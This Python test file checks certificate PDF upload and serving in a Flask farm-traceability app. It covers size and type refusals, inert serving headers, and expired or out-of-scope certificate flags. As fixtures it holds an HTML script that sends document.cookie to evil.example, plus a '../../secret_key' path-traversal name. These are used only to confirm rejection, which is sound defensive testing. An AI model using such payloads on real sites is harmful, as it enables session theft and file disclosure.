"""Certificates through the web: PDF upload (API and the producer's form) refused by content with a clear
message and nothing written, the PDF served inert, expired and out-of-scope certificates flagged."""

from __future__ import annotations

import hashlib
import json
from pathlib import Path
from typing import Any

import pytest
from flask import Flask
from flask.testing import FlaskClient

from farmtrace.services.transaction import Actor
from tests.web.test_account import csrf_of
from tests.web.test_producer import login, new_pig_lot
from tests.web.test_words_on_pages import _visible_text

PDF = (b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>"
       b"\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n")
LIMIT = 5 * 1024 * 1024
HTML = b"<!doctype html><html><body><script>document.location='https://evil.example/'+document.cookie</script>"
CERTIFICATE = {"step": "certified", "scheme": "gi_mark", "mark": "青峪猪", "certificate_no": "GI-QYZ-2015-0001",
               "issuer": "通江县青峪猪协会", "scope": "青峪猪", "valid_from": "2024-01-01", "valid_until": "2029-12-31"}


def _documents(app: Flask) -> Path:
    return Path(app.extensions["ledger"].documents.root)


def _files(app: Flask) -> list[Path]:
    root = _documents(app)
    return sorted(p for p in root.rglob("*") if p.is_file()) if root.exists() else []


BOUNDARY = "----farmtrace-test-boundary"


def multipart(fields: dict[str, str], files: dict[str, tuple[bytes, str, str]]) -> tuple[bytes, str]:
    """A multipart/form-data body built in memory (werkzeug's builder spools big files to a temp file it
    leaves open)."""
    out = bytearray()
    for name, value in fields.items():
        out += (f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{value}\r\n').encode()
    for name, (content, filename, mimetype) in files.items():
        out += (f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="{name}"; filename="{filename}"\r\n'
                f"Content-Type: {mimetype}\r\n\r\n").encode() + content + b"\r\n"
    out += f"--{BOUNDARY}--\r\n".encode()
    return bytes(out), f"multipart/form-data; boundary={BOUNDARY}"


def _upload(client: FlaskClient, headers: dict[str, str], content: bytes, name: str = "certificate.pdf",
            mimetype: str = "application/pdf") -> Any:
    body, kind = multipart({}, {"file": (content, name, mimetype)})
    return client.post("/api/v1/documents", headers=headers, data=body, content_type=kind)


def test_the_api_stores_a_pdf_once_and_answers_its_sha256(app: Flask, client: FlaskClient, bearer: Any) -> None:
    first = _upload(client, bearer("rice"), PDF)
    assert first.status_code == 201
    assert first.get_json() == {"sha256": hashlib.sha256(PDF).hexdigest(), "size": len(PDF)}
    again = _upload(client, bearer("rice"), PDF, name="another-name.pdf")
    assert again.status_code == 200 and again.get_json() == first.get_json()
    sha = first.get_json()["sha256"]
    assert _files(app) == [_documents(app) / sha[:2] / f"{sha}.pdf"]


REFUSED = {  # id: (bytes, file name, declared type, status, code)
    "over the size limit": (PDF[:-6] + b" " * LIMIT + b"%%EOF\n", "big.pdf", "application/pdf", 413, "too_large"),
    "a renamed HTML file": (HTML, "certificate.pdf", "application/pdf", 415, "unsupported_type"),
    "a PNG called a PDF": (b"\x89PNG\r\n\x1a\n" + b"\0" * 64, "scan.pdf", "application/pdf", 415, "unsupported_type"),
}


@pytest.mark.parametrize(("content", "name", "mimetype", "status", "code"), list(REFUSED.values()), ids=list(REFUSED))
def test_the_api_refuses_a_bad_file_and_writes_nothing(app: Flask, client: FlaskClient, bearer: Any, content: bytes,
                                                       name: str, mimetype: str, status: int, code: str) -> None:
    headers = bearer("rice")
    before = app.extensions["ledger"].row_counts()
    response = _upload(client, headers, content, name, mimetype)
    assert response.status_code == status
    error = response.get_json()["error"]
    assert error["code"] == code and error["field"] == "file" and error["message"]
    assert _files(app) == []
    assert app.extensions["ledger"].row_counts() == before


def test_a_body_far_over_the_limit_is_refused_before_it_is_read(app: Flask, client: FlaskClient, bearer: Any) -> None:
    response = _upload(client, bearer("rice"), b"%PDF-" + b"0" * (LIMIT + 200 * 1024))
    assert response.status_code == 413 and response.get_json()["error"]["code"] == "request_entity_too_large"
    assert _files(app) == []


def test_the_api_needs_a_token_to_store_a_file(app: Flask, client: FlaskClient) -> None:
    assert _upload(client, {}, PDF).status_code == 401
    assert _files(app) == []


def test_an_event_naming_an_unknown_document_is_refused(app: Flask, client: FlaskClient, bearer: Any) -> None:
    login(client, "pigfarm")
    lot = new_pig_lot(client)
    headers = bearer("pigfarm")
    before = app.extensions["ledger"].row_counts()
    response = client.post("/api/v1/events", headers=headers, json={
        "type": "observe", "batch": lot, "data": {**CERTIFICATE, "document": "ab" * 32}})
    assert response.status_code == 422
    assert response.get_json()["error"]["field"] == "data.document"
    assert app.extensions["ledger"].row_counts() == before


def test_the_pdf_is_served_inert_as_an_attachment(client: FlaskClient, bearer: Any) -> None:
    sha = _upload(client, bearer("rice"), PDF).get_json()["sha256"]
    served = client.get(f"/documents/{sha}.pdf")
    assert served.status_code == 200 and served.data == PDF
    assert hashlib.sha256(served.data).hexdigest() == sha
    assert served.headers["Content-Type"] == "application/pdf"
    assert served.headers["Content-Disposition"].startswith("attachment")
    assert served.headers["X-Content-Type-Options"] == "nosniff"
    assert served.headers["Content-Security-Policy"] == "sandbox; default-src 'none'"


@pytest.mark.parametrize("name", ["0" * 64, "not-a-hash", "AB" * 32, "../../secret_key"])
def test_an_unknown_or_malformed_document_is_not_found(client: FlaskClient, name: str) -> None:
    assert client.get(f"/documents/{name}.pdf").status_code == 404


# ---- the producer's certificate form -------------------------------------------------------------------------

def _certify(client: FlaskClient, path: str, fields: dict[str, str], file: tuple[bytes, str] | None) -> Any:
    data = {"csrf_token": csrf_of(client, path), **{f"k_{k}": v for k, v in fields.items()}}
    body, kind = multipart(data, {} if file is None else {"document_file": (file[0], file[1], "application/pdf")})
    return client.post(path, data=body, content_type=kind)


FIELDS = {k: v for k, v in CERTIFICATE.items() if k != "step"}


def test_a_certificate_with_its_pdf_is_recorded_from_the_form(app: Flask, client: FlaskClient) -> None:
    login(client, "pigfarm")
    lot = new_pig_lot(client)
    page = client.get(f"/producer/batches/{lot}/certify").get_data(as_text=True)
    assert "需要联网" in page or "needs a connection" in page
    done = _certify(client, f"/producer/batches/{lot}/certify", FIELDS, (PDF, "证书.pdf"))
    assert done.status_code == 303, _visible_text(done.get_data(as_text=True))[:600]
    sha = hashlib.sha256(PDF).hexdigest()
    assert _files(app) == [_documents(app) / sha[:2] / f"{sha}.pdf"]
    with app.extensions["ledger"].uow() as uow:
        head = uow.event_by_hash(uow.batch(lot).head)
        assert head is not None
        data = json.loads(head.canonical)["data"]
    assert data == {**CERTIFICATE, "document": sha}  # only the file's SHA-256 is in the signed record


FORM_REFUSALS = {  # id: (fields changed, file, words beside the field, status)
    "a renamed HTML file": ({}, (HTML, "certificate.pdf"), "不是 PDF", 415),
    "a file over the limit": ({}, (PDF[:-6] + b" " * LIMIT + b"%%EOF\n", "big.pdf"), "文件过大", 413),
    "valid until before valid from": ({"valid_until": "2023-12-31"}, (PDF, "ok.pdf"), "早于", 422),
}


@pytest.mark.parametrize(("change", "file", "words", "status"), list(FORM_REFUSALS.values()), ids=list(FORM_REFUSALS))
def test_the_form_shows_a_refusal_beside_the_field_and_writes_nothing(app: Flask, client: FlaskClient,
                                                                      change: dict[str, str],
                                                                      file: tuple[bytes, str], words: str,
                                                                      status: int) -> None:
    login(client, "pigfarm")
    lot = new_pig_lot(client)
    before = app.extensions["ledger"].row_counts()
    refused = _certify(client, f"/producer/batches/{lot}/certify", {**FIELDS, **change}, file)
    assert refused.status_code == status
    page = refused.get_data(as_text=True)
    assert 'class="form-error"' in page and words in page
    assert _files(app) == []  # not even the good PDF of a refused record
    assert app.extensions["ledger"].row_counts() == before


# ---- flags and claims ---------------------------------------------------------------------------------------

def _html(client: FlaskClient, batch: str) -> str:
    token_url = client.get(f"/batches/{batch}/label").headers["Location"]
    return str(client.get(token_url).get_data(as_text=True))


def test_an_expired_certificate_is_flagged_on_the_public_page_with_its_date(client: FlaskClient) -> None:
    html = _html(client, "tea-yd-1")
    assert "OG-DEMO-2022-0417" in html and "已过期（2025-02-28 到期）" in _visible_text(html)
    assert "<span class=\"claim\">绿色</span>" not in html  # an expired organic certificate backs no 绿色 claim
    assert "<span class=\"claim\">低碳</span>" not in html  # nor does its footprint make a 低碳 claim


def test_a_valid_green_food_licence_backs_a_green_claim(client: FlaskClient) -> None:
    html = _html(client, "rice-nj-0")
    assert "LB-DEMO-25060000A" in html
    assert 'id="claims"' in html and '<span class="claim">绿色</span>' in html


def test_the_dashboard_flags_expired_and_out_of_scope_certificates(app: Flask, client: FlaskClient) -> None:
    login(client, "pigfarm")
    lot = new_pig_lot(client)
    app.extensions["ledger"].append({"type": "observe", "batch": lot, "data": {
        **CERTIFICATE, "certificate_no": "GI-WRONG-1", "scope": "南江黄羊", "scope_codes": ["goat"]}},
        actor=Actor(org="qingyu-pig-farm"))
    login(client, "regulator")
    page = _visible_text(client.get("/desk/dashboard").get_data(as_text=True))
    assert "OG-DEMO-2022-0417" in page and "已于 2025-02-28 过期" in page  # the date once, with how long ago
    assert "GI-WRONG-1" in page and "不在认证范围内" in page
